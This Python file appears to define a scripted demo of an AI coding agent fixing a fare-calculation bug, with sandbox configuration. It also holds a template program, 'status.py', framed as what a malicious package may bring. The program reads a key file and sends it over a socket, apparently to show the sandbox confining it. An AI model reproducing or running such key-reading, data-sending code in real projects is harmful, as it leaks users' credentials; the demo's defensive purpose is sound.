"""The story of the demo as data: a small project with a bug, and the responses of the scripted model."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any

TASK = "The tests of this project fail. Find out why, fix it, and show that they pass."

MENDED = "fare.py"
MARKER = "check.pid"
"""The long command writes its process id here: then it is certainly running."""

FILES: Mapping[str, str] = {
    MENDED: '''"""Fares of a ferry."""


def fare(adults: int, children: int) -> int:
    """The price in cents: adults pay 900, children half of that."""
    return adults * 900 + children * 900 // 4
''',
    "test_fare.py": """import unittest

from fare import fare


class FareTest(unittest.TestCase):
    def test_adults_pay_in_full(self):
        self.assertEqual(fare(2, 0), 1800)

    def test_children_pay_half(self):
        self.assertEqual(fare(1, 2), 1800)


if __name__ == "__main__":
    unittest.main()
""",
}

_WRONG, _RIGHT = "children * 900 // 4", "children * (900 // 2)"
"""Different lengths, because Python takes cached bytecode for fresh if time and size of the file are the same."""
_TEST = "python3 -m unittest"


def _say(text: str, *calls: tuple[str, Mapping[str, Any]], when: str = "", tokens: int = 0) -> dict[str, Any]:
    """Return a line of the script."""
    return {
        "text": text,
        "tool_calls": [{"name": name, "arguments": arguments} for name, arguments in calls],
        "when": when,
        "chunks": 6,
        "delay_s": 0.15,
        "usage": {"input_tokens": 900 + tokens, "output_tokens": 60 + len(text) // 4},
    }


SCRIPT: Sequence[Mapping[str, Any]] = (
    _say("I will look around first.", ("list_dir", {}), ("read_file", {"path": "test_fare.py"})),
    _say("Now I run the tests.", ("shell", {"command": _TEST}), when="test_children_pay_half", tokens=400),
    _say("The fare of a child is wrong. I will look at the code.", ("read_file", {"path": MENDED}),
         when=r"FAILED \(failures=1\)", tokens=700),
    _say("Children pay half, but this computes a quarter.",
         ("edit_file", {"path": MENDED, "old": _WRONG, "new": _RIGHT}), when="// 4", tokens=900),
    _say("Fixed. Now a long check, to be sure.",
         ("shell", {"command": f"echo $$ > {MARKER}; {_TEST}; sleep 60; echo checked"}), tokens=1_100),
    _say("The check was interrupted, and its outcome is unknown. I will look at the file before I do anything.",
         ("read_file", {"path": MENDED}), when="outcome of this call is unknown", tokens=1_300),
    _say("The fix is there, once. I run the tests again.", ("shell", {"command": _TEST}),
         when="// 2", tokens=1_500),
    _say("Both tests pass. Children paid a quarter of the fare instead of half: `// 4` in fare.py is `// 2` now. "
         "The long check was interrupted and its outcome is not known.", when="OK", tokens=1_700),
)  # fmt: skip

CONFIG = """\
[sandbox]
mode = "unsafe"     # commands run with your permissions, and no sandbox confines them

[catalog."script:*"]    # an invented price, so that there is a cost to see
input_usd_per_mtok = 3.0
output_usd_per_mtok = 15.0
"""
BUDGET_USD = "0.50"

# --- the sandbox ----------------------------------------------------------------------------------

STATUS = "status.py"
STATUS_COMMAND = f"python3 {STATUS}"
_STATUS = """# What a package may bring along: it looks for a key and sends it away.
import pathlib
import socket

KEY, ADDRESS = pathlib.Path({key!r}), ("127.0.0.1", {port})
key = ""
try:
    key = KEY.read_text()
    print("It read the key.")
except OSError as error:
    print(f"It read no key: {{error.strerror}}.")
try:
    with socket.create_connection(ADDRESS, timeout=5) as away:
        away.sendall(key.encode() or b"no key")
    print("It sent something.")
except OSError as error:
    print(f"It sent nothing: {{error.strerror or error}}.")
"""


def status_program(key: str, port: int) -> str:
    """Return a program that reads a file and sends it to a port of this machine."""
    return _STATUS.format(key=key, port=port)


def script(*, is_walled: bool) -> Sequence[Mapping[str, Any]]:
    """Return the responses of the model. In a sandbox, it runs that program first."""
    first = _say("The project has a program that shows its status. I run it first.",
                 ("shell", {"command": STATUS_COMMAND}))  # fmt: skip
    return (first, *SCRIPT) if is_walled else SCRIPT


def config(mode: str, readable: Sequence[str]) -> str:
    """Return the user file, with the folders that programs in the sandbox need."""
    if mode == "unsafe":
        return CONFIG
    walls = f'[sandbox]\nmode = "{mode}"\nread = {json.dumps(readable)}    # where this Python is\n'
    return f"{walls}\n{CONFIG[CONFIG.index('[catalog') :]}"
